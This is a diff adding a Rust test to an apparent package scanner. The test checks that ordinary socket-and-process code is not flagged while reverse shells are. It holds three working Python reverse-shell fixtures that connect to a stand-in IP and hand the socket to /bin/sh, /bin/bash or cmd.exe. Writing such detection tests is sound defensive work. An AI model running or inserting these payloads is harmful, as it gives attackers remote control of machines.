@@ -139,3 +139,38 @@ fn hooks_that_run_code_and_assemblies_from_odd_paths_are_reported() {
     let report = scan(&ManifestFacts::default(), &[Entry { path: "w.py", bytes: write }]);
     assert!(report.findings.iter().any(|f| f.rule == "file-write" && f.severity == Severity::Info));
 }
+
+/// Sockets and processes in one file, as HTTP libraries, servers and terminal
+/// tools have them, are not a reverse shell (issue 19: `requests`, `urllib3`,
+/// `werkzeug` and `pexpect` were critical); the socket handed to a shell is.
+#[test]
+fn a_reverse_shell_is_a_socket_handed_to_a_shell_not_a_socket_beside_a_process() {
+    let benign = [
+        // An HTTP client: checks a socket's descriptor, starts a helper with a `cmd` variable.
+        "import socket, subprocess, select\n\
+         def is_connection_dropped(conn):\n    sock = socket.create_connection(('example.org', 80))\n    \
+         return select.select([sock.fileno()], [], [], 0.0)[0]\n\
+         def run(cmd):\n    return subprocess.check_output(cmd, stdin=subprocess.PIPE)\n",
+        // A server that forks workers and passes them a listening socket's number.
+        "import socket, os, subprocess\n\
+         def serve(addr):\n    s = socket.socket()\n    s.bind(addr)\n    s.listen(5)\n    \
+         os.environ['LISTEN_FD'] = str(s.fileno())\n    subprocess.Popen(['gunicorn-worker'])\n",
+    ];
+    for src in benign {
+        let report = scan(&ManifestFacts::default(), &[Entry { path: "lib.py", bytes: src.as_bytes() }]);
+        assert!(!report.findings.iter().any(|f| f.rule == "reverse-shell"), "{src}\n{:#?}", report.findings);
+    }
+    let shells = [
+        "import socket, os, subprocess\ns = socket.socket()\ns.connect(('203.0.113.5', 4444))\n\
+         os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nsubprocess.call(['/bin/sh', '-i'])\n",
+        "import socket, subprocess\ns = socket.socket()\ns.connect(('203.0.113.5', 4444))\n\
+         subprocess.Popen(['cmd.exe'], stdin=s.fileno(), stdout=s.fileno())\n",
+        "import socket, pty, os\ns = socket.create_connection(('203.0.113.5', 4444))\n\
+         [os.dup2(s.fileno(), fd) for fd in (0, 1, 2)]\npty.spawn('/bin/bash')\n",
+    ];
+    for src in shells {
+        let report = scan(&ManifestFacts::default(), &[Entry { path: "evil.py", bytes: src.as_bytes() }]);
+        assert!(report.findings.iter().any(|f| f.rule == "reverse-shell"), "{src}\n{:#?}", report.findings);
+        assert_eq!(report.risk_level, RiskLevel::Critical);
+    }
+}
